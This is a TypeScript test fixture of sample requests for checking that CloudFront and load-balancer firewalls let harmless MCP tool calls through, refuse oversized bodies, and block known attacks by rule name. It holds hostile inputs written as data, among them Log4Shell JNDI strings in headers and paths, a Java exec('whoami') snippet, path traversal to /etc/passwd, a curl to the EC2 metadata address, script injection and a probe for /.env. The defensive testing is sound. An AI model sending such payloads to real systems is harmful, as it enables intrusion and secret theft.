// Requests to CloudFront and, with what CloudFront adds, to the load balancer.

import { MAX_BODY_BYTES } from "../../lib/names.ts";
import type { Request } from "./request.ts";

/** One of the addresses from which all Workers call hosts outside of Cloudflare. */
const EDGE_ADDRESS = "2a06:98c0:3600::103";

const announced = (body: string) => ({ "content-length": `${Buffer.byteLength(body)}` });

/** A request as the edge forwards it. */
export function forwarded(body: string, headers: Record<string, string | undefined> = {}, changes: Partial<Request> = {}): Request {
  const all = {
    host: "origin.example.com",
    "user-agent": "claude-code/2.0",
    "content-type": "application/json",
    ...announced(body),
    "x-edgeward-identity": "eyJhbGciOiJFZERTQSJ9.e30.c2lnbmF0dXJl",
    ...headers,
  };
  const given = Object.entries(all).filter((field): field is [string, string] => field[1] !== undefined);
  return { method: "POST", path: "/mcp", query: "", headers: Object.fromEntries(given), body, address: EDGE_ADDRESS, ...changes };
}

/** A call of a tool with an argument. */
const call = (argument: string) =>
  forwarded(JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "read", arguments: { text: argument } } }));

const ofBytes = (bytes: number) => forwarded("a".repeat(bytes));

/** Must pass both firewalls before the origin. */
export const MCP_REQUESTS: Record<string, Request> = {
  "a call": call("weather in Bern"),
  "a call by a client without User-Agent": forwarded("{}", { "user-agent": undefined }),
  "a call by a client that is called after a scanner": forwarded("{}", { "user-agent": "nmap-mcp/1.0" }),
  "a call with a loopback URL": call("http://127.0.0.1:8188/prompt"),
  "a call with a URL of an IPv4 address": call("https://203.0.113.7/logo.png"),
  "a call with the address of EC2's metadata": call("curl http://169.254.169.254/latest/meta-data/"),
  "a call with a script": call("<script>alert('hello')</script>"),
  "a call with a path upwards": call("../../etc/passwd"),
  "a call that asks about Log4Shell": call("what does ${jndi:ldap://example.com/} do?"),
  "a call that asks about Java": call('(java.lang.Runtime).getRuntime().exec("whoami")'),
  "a call that asks about React": call('{"then":"$1:__proto__:then","status":"resolved_model"}'),
  "a call of 9 KB": ofBytes(9 * 1024),
  "a call of 3 MB": ofBytes(3_000_000),
  "a call of the longest body": ofBytes(MAX_BODY_BYTES),
  "a call of unknown length": forwarded("{}", { "content-length": undefined }),
  "a stream": forwarded("", { accept: "text/event-stream" }, { method: "GET" }),
  "the end of a session": forwarded("", {}, { method: "DELETE" }),
  "a call while another customer of the CDN does evil": { ...call("hello"), listed: "AWSManagedReconnaissanceList" },
  "a query of 3 KB": forwarded("{}", {}, { query: `cursor=${"c".repeat(3072)}` }),
};

/** Must be refused with a 413 that names the limit. */
export const TOO_LONG: Record<string, Request> = {
  "a body that is a byte too long": ofBytes(MAX_BODY_BYTES + 1),
  "a body of 10 MB": ofBytes(10_000_000),
  "a length with zeros in front": forwarded("{}", { "content-length": `000${MAX_BODY_BYTES + 1}` }),
  "a length beyond all numbers": forwarded("{}", { "content-length": "9".repeat(40) }),
};

/** Must not get to the origin, by the rule's name. */
export const ORIGIN_ATTACKS: Record<string, [Request, string]> = {
  "Log4Shell in a header": [forwarded("{}", { "user-agent": "${jndi:ldap://example.com/}" }), "known-bad-inputs/Log4JRCE_HEADER"],
  "Log4Shell in a header, encoded": [forwarded("{}", { referer: "%24%7bjndi:ldap://example.com/}" }), "known-bad-inputs/Log4JRCE_HEADER"],
  "Log4Shell in a path": [forwarded("{}", {}, { path: "/${jndi:ldap://example.com/}" }), "known-bad-inputs/Log4JRCE_URIPATH"],
  "Java in a header": [forwarded("{}", { referer: "(java.lang.Runtime)" }), "known-bad-inputs/JavaDeserializationRCE_HEADER"],
  PROPFIND: [forwarded("", {}, { method: "PROPFIND" }), "known-bad-inputs/PROPFIND_METHOD"],
  "a search for secrets": [forwarded("", {}, { method: "GET", path: "/.env" }), "known-bad-inputs/ExploitablePaths_URIPATH"],
};

/** A request that does not come through the edge. */
export const stranger = (changes: Partial<Request> = {}) =>
  forwarded("{}", { "x-edgeward-identity": undefined }, { address: "198.51.100.9", ...changes });
